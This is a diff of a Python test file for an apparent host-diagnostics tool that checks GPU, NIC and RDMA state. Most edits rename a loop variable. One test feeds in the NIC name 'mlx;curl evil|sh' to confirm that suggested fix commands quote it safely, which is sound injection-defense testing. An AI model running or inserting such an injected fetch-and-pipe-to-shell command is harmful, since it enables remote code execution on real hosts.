@@ -56,7 +56,7 @@ def test_each_fault_of_a_host_is_one_finding(path, text, check, state, tmp_path)
     if path == "proc/1/comm":
         changes |= {name: None for name in WELL if name.startswith("proc/1/")}
     root = laid_out(tmp_path, load_machine(TRAY), **changes)
-    found = {one.check: one for one in examine_host(root)}
+    found = {finding.check: finding for finding in examine_host(root)}
     assert found[check].state is state
     assert found.keys() == {check}
     assert bool(found[check].consequences) is (path == "proc/1/comm")
@@ -87,7 +87,7 @@ def test_a_runtime_left_as_it_comes_is_judged_by_what_its_node_says(runtime, sta
     monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
     root = laid_out(tmp_path, machine, **{"etc/containerd/config.toml": None})
     found = diagnose(DoctorSources(sysroot=root)).findings
-    assert [(one.check, one.state) for one in found] == [(Check.CDI, state) for state in states]
+    assert [(finding.check, finding.state) for finding in found] == [(Check.CDI, state) for state in states]
 
 
 DAEMON = {
@@ -104,7 +104,7 @@ DAEMON = {
 def test_the_mesh_of_a_pods_daemon_is_what_the_cluster_says_or_unknown(
     reported, checks, tmp_path, monkeypatch
 ):
-    """Whether a mesh that was told is complete is a finding of its ComputeDomain."""
+    """Whether a reported mesh is complete is a finding of its ComputeDomain."""
     machine = load_machine(TRAY)
     mesh = ImexMeshRecord(domain="uid", node=machine.name, clique="c.1", complete=reported)
 
@@ -115,8 +115,8 @@ def test_the_mesh_of_a_pods_daemon_is_what_the_cluster_says_or_unknown(
 
     monkeypatch.setattr("rackloom.app.doctor.read_snapshot", seen)
     found = diagnose(DoctorSources(sysroot=laid_out(tmp_path, machine, **DAEMON))).findings
-    assert [one.check for one in found] == checks
-    assert all(one.state is CheckState.UNKNOWN and "process 71" in one.message for one in found)
+    assert [finding.check for finding in found] == checks
+    assert all(finding.state is CheckState.UNKNOWN and "process 71" in finding.message for finding in found)
 
 
 HIDDEN, SEEN = "azure-nd128isr-gb300-v6", "azure-nd96isr-h100-v5"
@@ -171,7 +171,7 @@ def test_without_rdma_the_interface_tells(state, verdict, tmp_path):
         interface.unlink()
     else:
         (interface / "operstate").write_text(f"{state}\n")
-    states = [one.state for one in examine_host(root) if one.check == Check.NIC_LINK]
+    states = [finding.state for finding in examine_host(root) if finding.check == Check.NIC_LINK]
     assert states == ([] if verdict is None else [verdict])
 
 
@@ -235,7 +235,7 @@ def port(device, state, rate, layer="InfiniBand"):
 
 
 def function(number, kind, **port_of):
-    """A PCI function, a GPU where nothing is said of a port: its files and the links to it."""
+    """A PCI function: its files and the links to it. Without a port it is a GPU."""
     at = f"sys/devices/pci0000:00/0000:00:0{number}"
     driver, vendor = ("mlx5_core", "0x15b3") if port_of else ("nvidia", "0x10de")
     files = {"class": kind, "vendor": vendor, "device": "0x2941", "numa_node": "0"}
@@ -278,7 +278,7 @@ def built(root, *functions):
 def test_a_virtual_function_of_a_nic_is_nobodys_rail(tmp_path):
     nics = [("3.0", INFINIBAND, {"name": "mlx5_0", **FAST}), ("3.1", INFINIBAND, {"name": "mlx5_1", **DOWN})]
     root = built(tmp_path, *GPUS, *nics)
-    assert [one.subject for one in examine_host(root)] == ["NIC mlx5_1 of host n1"]
+    assert [finding.subject for finding in examine_host(root)] == ["NIC mlx5_1 of host n1"]
     linked(root, {"sys/devices/pci0000:00/0000:00:03.1/physfn": "../0000:00:03.0"})
     assert examine_host(root) == ()
 
@@ -289,7 +289,7 @@ def test_a_link_is_as_fast_as_others_of_its_own_kind(layer, slow, tmp_path):
         ("3.0", ETHERNET, {"name": "mlx5_0", "layer": layer, **SLOW}),
         ("4.0", INFINIBAND, {"name": "mlx5_1", **FAST}),
     ]
-    assert [one.subject for one in examine_host(built(tmp_path, *GPUS, *nics))] == slow
+    assert [finding.subject for finding in examine_host(built(tmp_path, *GPUS, *nics))] == slow
 
 
 def test_without_gpus_no_nic_is_a_rail(tmp_path):
@@ -299,7 +299,7 @@ def test_without_gpus_no_nic_is_a_rail(tmp_path):
 def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
     hostile = "mlx;curl evil|sh"
     root = built(tmp_path, *GPUS, ("3.0", INFINIBAND, {"name": hostile, **DOWN}))
-    fixes = {one.check: one.fix for one in examine_host(root)}
+    fixes = {finding.check: finding.fix for finding in examine_host(root)}
     assert shlex.split(fixes[Check.NIC_LINK], comments=True) == ["rdma", "link", "show", hostile]
 
 
@@ -318,4 +318,6 @@ def test_names_of_the_tree_are_words_of_a_fix_and_no_commands(tmp_path):
 )
 def test_the_first_process_of_a_container_is_not_the_hosts(links, checks, tmp_path):
     found = examine_host(linked(laid_out(tmp_path, load_machine(TRAY)), links))
-    assert [(one.check, one.state) for one in found] == [(check, CheckState.UNKNOWN) for check in checks]
+    assert [(finding.check, finding.state) for finding in found] == [
+        (check, CheckState.UNKNOWN) for check in checks
+    ]
